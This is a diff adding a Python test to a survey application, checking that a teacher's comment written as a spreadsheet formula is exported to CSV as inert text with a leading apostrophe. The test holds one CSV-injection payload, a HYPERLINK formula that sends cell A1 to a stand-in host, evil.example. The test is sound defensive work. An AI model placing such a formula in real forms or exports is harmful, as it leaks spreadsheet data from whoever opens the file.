@@ -253,3 +253,22 @@ def test_a_study_without_provision_returns(client, teacher, schools, monkeypatch
     log_in(client, add_user("researcher", "researcher"))
     assert client.get("/research/provision").status_code == 404
     assert 'href="/research/provision"' not in client.get("/research/").get_data(as_text=True)
+
+
+def test_a_comment_that_looks_like_a_formula_is_text_in_the_csv(client, teacher, schools):
+    """CSV injection: '=HYPERLINK(...)' typed by a teacher must not run in a spreadsheet."""
+    from surveyapp import provision
+
+    hill = schools[0]
+    token = token_for(client, url(hill))
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    client.post(url(hill), data={**filled(comments=attack), "csrf_token": token, "action": "save"})
+    questionnaire = get_catalog().questionnaire(get_catalog().study.provision_questionnaire)
+    study = db.session.execute(db.select(School)).scalars().first().study
+    out = io.StringIO()
+    provision.write_returns_csv(
+        study, questionnaire, out, provision.CsvOptions(include_free_text=True)
+    )
+    (row,) = list(csv.DictReader(io.StringIO(out.getvalue())))
+    assert row["comments"] == "'" + attack
+    assert row["pupils_taking_part"] == "85"  # numbers are never touched
